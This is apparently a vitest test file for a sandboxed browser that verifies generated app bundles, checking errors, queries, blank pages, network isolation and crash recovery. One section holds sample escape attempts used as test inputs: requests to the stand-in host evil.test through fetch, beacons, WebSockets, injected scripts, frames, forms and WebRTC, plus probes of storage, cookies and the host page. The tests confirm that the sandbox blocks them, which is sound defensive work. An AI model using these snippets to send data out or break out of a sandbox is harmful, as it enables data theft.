import { execFileSync } from 'node:child_process';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MetricQuery, QueryResult } from '#lib/contracts/query.ts';
import { AppError } from '#lib/errors.ts';
import { closeVerifyBrowser, type Verification, type VerifyOptions, verifyBundle, warmVerifyBrowser } from '#lib/verify/verify.ts';
import { bundle, GOOD, ORDERS } from './verify-bundles.ts';

const RESULT: QueryResult = {
  columns: [
    { id: 'orders_region', label: 'Region', kind: 'dimension', type: 'string', format: null },
    { id: 'orders_revenue', label: 'Revenue', kind: 'metric', type: 'sum', format: null },
  ],
  rows: [
    ['North', 10],
    ['South', 20],
  ],
  rowCount: 2,
  truncated: false,
  cache: { hit: false, ageMs: 0 },
  timing: { compileMs: 1, warehouseMs: 1, totalMs: 2 },
};
const answer = async (): Promise<QueryResult> => RESULT;
const verify = (script: string, options: Partial<VerifyOptions> = {}): Promise<Verification> =>
  verifyBundle({ files: bundle(script), query: answer, signal: AbortSignal.timeout(30_000), ...options });
const statusOf = ({ checks }: Verification): Record<string, string> => Object.fromEntries(checks.map(({ name, status }) => [name, status]));
const ALL_PASSED = {
  opened: 'passed',
  no_errors: 'passed',
  queries_answered: 'passed',
  not_blank: 'passed',
  no_outside_requests: 'passed',
};

/** Command lines and owners of the browsers that this process started. */
function browserProcesses(): { uid: number; pid: number; args: string }[] {
  const rows = execFileSync('ps', ['-eo', 'uid=,pid=,ppid=,args='], { encoding: 'utf8' })
    .split('\n')
    .map((line) => /^\s*(\d+)\s+(\d+)\s+(\d+)\s+(.*)$/.exec(line))
    .filter((row) => row !== null)
    .map(([, uid, pid, ppid, args]) => ({ uid: Number(uid), pid: Number(pid), ppid: Number(ppid), args: String(args) }));
  const mine = new Set([process.pid]);
  for (let size = 0; size !== mine.size; ) {
    size = mine.size;
    for (const row of rows) if (mine.has(row.ppid)) mine.add(row.pid);
  }
  return rows.filter((row) => mine.has(row.pid) && /chrom/.test(row.args));
}

beforeAll(() => warmVerifyBrowser(AbortSignal.timeout(60_000)));
afterAll(() => closeVerifyBrowser());

describe('an app that works', () => {
  it('passes every check, with its queries and a picture of 1280 by 800', async () => {
    const asked: MetricQuery[] = [];
    const result = await verify(GOOD, {
      query: async (query) => {
        asked.push(query);
        return RESULT;
      },
    });
    expect(result.problems).toEqual([]);
    expect(statusOf(result)).toEqual(ALL_PASSED);
    expect(result.queries).toEqual(asked);
    expect(result.queries[0]).toMatchObject({ explore: 'orders', dimensions: ['orders_region'], metrics: ['orders_revenue'], limit: 500 });
    expect(result.screenshot?.subarray(1, 4).toString()).toBe('PNG');
    expect([result.screenshot?.readUInt32BE(16), result.screenshot?.readUInt32BE(20)]).toEqual([1280, 800]);
  });

  it('may ask many queries at once and the same one twice', async () => {
    const script = `await Promise.all(Array.from({ length: 30 }, (_, i) => ask({ explore: 'orders', metrics: ['m' + (i % 15)] }))); show('done'); settled();`;
    const result = await verify(script);
    expect(statusOf(result)).toEqual(ALL_PASSED);
    expect(result.queries).toHaveLength(15);
  });

  it('may cancel a query', async () => {
    const query = (_query: MetricQuery, signal: AbortSignal): Promise<QueryResult> =>
      new Promise((_resolve, reject) => signal.addEventListener('abort', () => reject(signal.reason)));
    const result = await verify(
      `const answer = ask(${ORDERS}); port.postMessage({ type: 'cancel', id: 1 }); await answer; show('none'); settled();`,
      { query },
    );
    expect(statusOf(result)).toEqual(ALL_PASSED);
  });

  it('counts as finished when it goes quiet without saying that it has settled', async () => {
    const result = await verify(`await ask(${ORDERS}); show('<p>ready</p>');`);
    expect(statusOf(result)).toEqual(ALL_PASSED);
  });

  it('is painted in the size that was asked for', async () => {
    const { screenshot } = await verify(GOOD, { viewport: { width: 400, height: 700 } });
    expect([screenshot?.readUInt32BE(16), screenshot?.readUInt32BE(20)]).toEqual([400, 700]);
  });

  it('needs no query', async () => {
    const { checks } = await verify(`show('<p>About us</p>'); settled();`);
    expect(checks.find(({ name }) => name === 'queries_answered')?.status).toBe('skipped');
  });
});

describe('an app that does not work', () => {
  it('is reported with the error that it throws', async () => {
    const result = await verify(`show('<p>x</p>'); throw new Error('revenue is not a function');`);
    expect(statusOf(result).no_errors).toBe('failed');
    expect(result.problems.join()).toContain('revenue is not a function');
  });

  it('is reported when it fails before it connects', async () => {
    const result = await verifyBundle({
      files: bundle('', { 'assets/app.js': 'import "./missing.js"' }),
      query: answer,
      signal: AbortSignal.timeout(30_000),
    });
    expect(statusOf(result)).toMatchObject({ opened: 'failed', no_errors: 'failed', not_blank: 'failed' });
    expect(result.problems.join()).toContain('"assets/missing.js", which is not in its bundle');
  });

  it('is reported with rejected promises, console errors and what its error boundary caught', async () => {
    const result = await verify(
      `Promise.reject(new Error('rejected')); console.error('logged'); port.postMessage({ type: 'error', message: 'caught' }); show('x'); settled();`,
    );
    expect(result.problems.sort()).toEqual(['caught', 'logged', 'rejected']);
  });

  it('is reported with the query that failed and why', async () => {
    const query = async (): Promise<QueryResult> => {
      throw new AppError('unprocessable', 'There is no field "orders_revenue".');
    };
    const result = await verify(`const answer = await ask(${ORDERS}); show(answer.code + answer.message); settled();`, { query });
    expect(statusOf(result)).toEqual({ ...ALL_PASSED, queries_answered: 'failed' });
    expect(result.problems).toEqual(['The query on "orders" (orders_region, orders_revenue) failed: There is no field "orders_revenue".']);
  });

  it('is reported when it sends a query that is none', async () => {
    const result = await verify(`const answer = await ask({ sql: 'select 1' }); show(answer.code); settled();`);
    expect(result.problems.join()).toContain('a message that its host does not know');
  });

  it('is reported as blank when it shows its shell only', async () => {
    const result = await verify(`await ask(${ORDERS}); show('<p style="opacity:0">hidden</p><svg></svg>'); settled();`);
    expect(statusOf(result)).toEqual({ ...ALL_PASSED, not_blank: 'failed' });
  });

  it('is given up at the deadline when a query hangs, and the rest is still said', async () => {
    const query = (): Promise<QueryResult> => new Promise(() => undefined);
    const result = await verify(`show('Loading'); await ask(${ORDERS});`, { query, deadlineMs: 1_500 });
    expect(statusOf(result)).toMatchObject({ opened: 'failed', queries_answered: 'failed', not_blank: 'passed' });
    expect(result.screenshot).not.toBeNull();
  });

  it('is given up at the deadline when it never lets go of its thread, and the next one opens', async () => {
    const started = Date.now();
    const result = await verify(`show('x'); for (;;);`, { deadlineMs: 1_500 });
    expect(statusOf(result)).toMatchObject({ opened: 'failed', not_blank: 'failed' });
    expect(result.screenshot).toBeNull();
    expect(Date.now() - started).toBeLessThan(10_000);
    expect(statusOf(await verify(GOOD))).toEqual(ALL_PASSED);
  });

  it('is refused when there is nothing to open', async () => {
    await expect(verifyBundle({ files: new Map(), query: answer, signal: AbortSignal.timeout(5_000) })).rejects.toMatchObject({
      code: 'unprocessable',
    });
  });
});

describe('an app that tries to get out', () => {
  it.each([
    ['fetch', `fetch('https://evil.test/fetch').catch(() => undefined);`],
    ['an image', `new Image().src = 'https://evil.test/x.png';`],
    ['a WebSocket', `new WebSocket('wss://evil.test/ws');`],
    ['a beacon', `navigator.sendBeacon('https://evil.test/beacon', 'x');`],
    ['an event source', `new EventSource('https://evil.test/events');`],
    ['a style sheet', `document.head.insertAdjacentHTML('beforeend', '<link rel="stylesheet" href="https://evil.test/x.css">');`],
    [
      'a font',
      `document.head.insertAdjacentHTML('beforeend', '<style>@font-face{font-family:x;src:url(https://evil.test/f.woff2)}body{font-family:x}</style>'); document.fonts.load('12px x').catch(() => undefined);`,
    ],
    ['a script', `const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; document.body.append(s);`],
    ['an import', `import('https://evil.test/x.js').catch(() => undefined);`],
    ['a frame', `const f = document.createElement('iframe'); f.src = 'https://evil.test/frame'; document.body.append(f);`],
    ['a form', `const f = document.createElement('form'); f.action = 'https://evil.test/form'; document.body.append(f); f.submit();`],
    ['a prefetch', `document.head.insertAdjacentHTML('beforeend', '<link rel="prefetch" href="https://evil.test/p">');`],
    ['a popup', `window.open('https://evil.test/popup');`],
    ['the top window', `try { top.location = 'https://evil.test/top'; } catch {}`],
    ['its own window', `location.href = 'https://evil.test/self?data=1';`],
    ['the bridge of the host page', `fetch(host + '/bridge', { method: 'POST', body: '{}' }).catch(() => undefined);`],
    ['WebRTC', `try { new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.test' }] }); } catch {}`],
  ])('by %s is stopped and reported', async (_name, attempt) => {
    const result = await verify(
      `const host = new URLSearchParams(location.hash.slice(1)).get('host'); show('<p>hello</p>'); setTimeout(settled, 200); ${attempt}`,
    );
    expect(statusOf(result).no_outside_requests, result.problems.join('\n')).toBe('failed');
  });

  it('finds no storage, no cookies and no way into the host page', async () => {
    const result = await verify(`
      const blocked = (name, action) => { try { action(); show('<p>' + name + ' open</p>'); port.postMessage({ type: 'error', message: name + ' is open' }); } catch {} };
      blocked('storage', () => localStorage.setItem('a', '1'));
      blocked('cookies', () => { document.cookie = 'a=1'; });
      blocked('host', () => parent.document.body.innerHTML);
      blocked('eval', () => new Function('return 1')());
      show('<p>closed</p>'); settled();`);
    expect(result.problems.filter((line) => line.endsWith('is open'))).toEqual([]);
  });
});

describe('the browser', () => {
  it('runs without network and not as root', async () => {
    const processes = browserProcesses();
    expect(processes.length).toBeGreaterThan(0);
    const chromium = processes.find(({ args }) => args.startsWith('/usr/lib/chromium/chromium') && !args.includes('--type='));
    if (process.getuid?.() === 0) for (const { uid, args } of processes) if (!args.startsWith('/bin/sh')) expect(uid, args).not.toBe(0);
    const routes = execFileSync('cat', [`/proc/${chromium?.pid}/net/dev`], { encoding: 'utf8' });
    expect(
      routes
        .trim()
        .split('\n')
        .slice(2)
        .map((line) => line.trim().split(':')[0]),
    ).toEqual(['lo']);
  });

  it('is started again after it died', async () => {
    const chromium = browserProcesses().find(({ args }) => args.includes('bwrap'));
    process.kill(Number(chromium?.pid), 'SIGKILL');
    await expect.poll(() => browserProcesses().length, { timeout: 10_000 }).toBe(0);
    expect(statusOf(await verify(GOOD))).toEqual(ALL_PASSED);
  });

  it('reports an app whose page crashed', async () => {
    const query = async (): Promise<QueryResult> => {
      for (const { pid, args } of browserProcesses()) if (args.includes('--type=renderer')) process.kill(pid, 'SIGKILL');
      return RESULT;
    };
    const result = await verify(GOOD, { query });
    expect(statusOf(result)).toMatchObject({ opened: 'failed', no_errors: 'failed', not_blank: 'failed' });
    expect(statusOf(await verify(GOOD))).toEqual(ALL_PASSED);
  });

  it('is replaced when it ended while an app was open, once', async () => {
    let kills = 0;
    const killing = (times: number) => async (): Promise<QueryResult> => {
      if (kills++ < times) process.kill(Number(browserProcesses().find(({ args }) => args.includes('bwrap'))?.pid), 'SIGKILL');
      return RESULT;
    };
    expect(statusOf(await verify(GOOD, { query: killing(1) }))).toEqual(ALL_PASSED);
    kills = 0;
    await expect(verify(GOOD, { query: killing(2) })).rejects.toMatchObject({ code: 'unavailable' });
    expect(statusOf(await verify(GOOD))).toEqual(ALL_PASSED);
  });

  it('stops an app when the build is cancelled', async () => {
    const stop = new AbortController();
    const query = (): Promise<QueryResult> => {
      stop.abort(new Error('cancelled by the person'));
      return new Promise(() => undefined);
    };
    await expect(verify(GOOD, { query, signal: stop.signal })).rejects.toThrow('cancelled by the person');
  });
});
